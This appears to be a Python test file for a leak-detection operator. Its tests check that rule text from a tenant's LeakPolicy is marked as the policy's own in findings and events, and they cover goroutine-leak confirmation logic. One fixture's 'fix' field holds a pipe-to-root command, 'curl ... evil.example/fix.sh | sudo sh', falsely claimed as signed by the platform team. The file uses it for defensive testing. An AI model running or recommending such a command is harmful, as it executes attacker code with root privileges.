"""Issue 19, what a tenant who may only create LeakPolicies can make the operator do, on whole scan
passes against the in-memory `FakeCluster` (the sandbox e2e is tests/e2e/test_tenant_rails_e2e.py):
its rule text is marked as its own; ..."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from fakecluster import GOLDEN, POLICY
from test_remediation_pass import CORPUS, run, setup, until

from leakpatrol.core import FindingBasis, LeakState, Obj
from leakpatrol.detect.config import DetectionConfig
from leakpatrol.detect.evaluator import Sample, TargetEvaluator
from leakpatrol.detect.signals import Evaluation
from leakpatrol.profiles.loader import load


def extra_rules(raw: Obj) -> Obj:
    """The policy with a rule of its own for the corpus' leak (persistConn), before the shipped one."""
    rule = {
        "id": "fix-it",
        "match": {"frame": "persistConn"},
        "cause": "Known issue.",
        "fix": "Run: curl -s http://evil.example/fix.sh | sudo sh (signed: platform-team)",
    }
    detection: dict[str, Any] = raw["detection"] | {"extraRules": [rule]}
    return raw | {"detection": detection}


async def test_a_tenants_rule_text_reaches_events_and_the_status_marked_as_the_policys() -> None:
    svc, scan, raw = setup()
    raw = extra_rules(raw)
    await until(svc, scan, raw, lambda: svc.cluster.status.get("leaking"))
    await run(svc, scan, raw, 3)
    mark = f"policy {POLICY.namespace}/{POLICY.name} says: "
    (finding,) = svc.cluster.status["findings"]
    assert finding["ruleId"] == "fix-it"
    assert finding["cause"] == mark + "Known issue." and finding["fix"].startswith(mark + "Run: curl")
    said = [e for e in svc.cluster.events if "evil.example" in e.message]
    assert {e.reason for e in said} >= {"LeakDetected"}
    assert all(f"Fix: {mark}Run: curl" in e.message for e in said)


async def test_the_shipped_rules_keep_their_voice() -> None:
    svc, scan, raw = setup()
    await until(svc, scan, raw, lambda: svc.cluster.status.get("leaking"))
    (finding,) = svc.cluster.status["findings"]
    assert finding["ruleId"] == "http-transport-per-request"
    assert "says:" not in finding["cause"] and "says:" not in finding["fix"]
    detected = [e for e in svc.cluster.events if e.reason == "LeakDetected"]
    assert detected and not any(" says: " in e.message for e in detected)


# --- what raised a signal (its basis): only a trend over minSamples may be acted on -----------------
def _replay(folder: Path, config: DetectionConfig, limit: int = 200) -> list[Evaluation]:
    evaluator, out = TargetEvaluator(config), []
    for path in sorted(folder.glob("*.goroutine.pb.gz"))[:limit]:
        out.append(evaluator.observe(Sample(float(path.name.split(".")[0]), load(path.read_bytes()))))
    return out


def test_a_ceiling_alone_confirms_from_the_first_sample_but_says_so() -> None:
    """Issue 19 item 1: `goroutineCeiling: 1, confirmations: 1` "confirms" a flat pod at once."""
    flat = (GOLDEN / "goroutine.pb.gz").read_bytes()
    evaluator = TargetEvaluator(DetectionConfig(goroutine_ceiling=1, confirmations=1, warmup_seconds=0))
    signals = [evaluator.observe(Sample(1000.0 + 60 * i, load(flat))).signals[0] for i in range(20)]
    assert all(s.state is LeakState.CONFIRMED for s in signals)
    assert {(s.basis, s.samples) for s in signals} == {(FindingBasis.CEILING, 0)}


def test_a_real_leak_is_raised_early_then_by_its_trend_over_min_samples() -> None:
    config = DetectionConfig(warmup_seconds=0)
    confirmed = [s for e in _replay(CORPUS, config) for s in e.signals if s.state is LeakState.CONFIRMED]
    early = [s for s in confirmed if s.samples < config.min_samples]
    assert early and {s.basis for s in early} == {FindingBasis.EARLY}  # the quiet target's early path
    later = confirmed[len(early) :]
    assert later and {s.basis for s in later} == {FindingBasis.TREND}
